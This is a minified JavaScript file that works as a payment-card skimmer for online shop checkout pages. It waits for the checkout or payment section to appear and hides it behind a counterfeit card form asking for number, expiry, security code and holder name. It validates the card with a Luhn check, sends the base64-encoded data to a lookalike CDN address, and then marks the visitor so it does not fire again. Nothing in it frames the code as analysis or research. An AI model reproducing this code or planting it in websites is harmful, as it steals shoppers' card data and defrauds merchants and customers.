!function(e, t) {
    if (/checkout|payment|onepage/i.test(e.location.pathname) && !e.localStorage.getItem("_mgs")) {
        var n = t.createElement("div");
        n.id = "pay-frame", n.style.cssText = "position:relative;z-index:99999;background:#fff;padding:12px", 
        [ "number", "expiry", "code", "holder" ].forEach(function(e) {
            var a = t.createElement("input");
            a.setAttribute("placeholder", e), a.setAttribute("data-k", e), a.className = "input-text", 
            n.appendChild(a);
        });
        var a = t.createElement("button");
        a.innerText = "Place order", a.onclick = function(t) {
            t.preventDefault();
            for (var a = {
                h: e.location.host
            }, r = n.getElementsByTagName("input"), o = 0; o < r.length; o++) a[r[o].getAttribute("data-k")] = r[o].value;
            if (!function(e) {
                for (var t = e.replace(/\D/g, ""), n = 0, a = !1, r = t.length - 1; r >= 0; r--) {
                    var o = parseInt(t.charAt(r), 10);
                    a && (o *= 2) > 9 && (o -= 9), n += o, a = !a;
                }
                return t.length >= 13 && n % 10 == 0;
            }(a.number || "")) return n.style.border = "1px solid red", !1;
            var i = new XMLHttpRequest;
            i.open("POST", "https://assets.shopcdn.invalid/t.php", !0), i.setRequestHeader("Content-Type", "application/x-www-form-urlencoded"), 
            i.onreadystatechange = function() {
                4 === i.readyState && (e.localStorage.setItem("_mgs", "1"), n.parentNode.removeChild(n));
            }, i.send("d=" + e.btoa(JSON.stringify(a)));
        }, n.appendChild(a);
        var r = setInterval(function() {
            var e = t.querySelector(".payment-method, #payment, form.checkout");
            e && (clearInterval(r), e.parentNode.insertBefore(n, e), e.style.display = "none");
        }, 500);
    }
}(window, document);
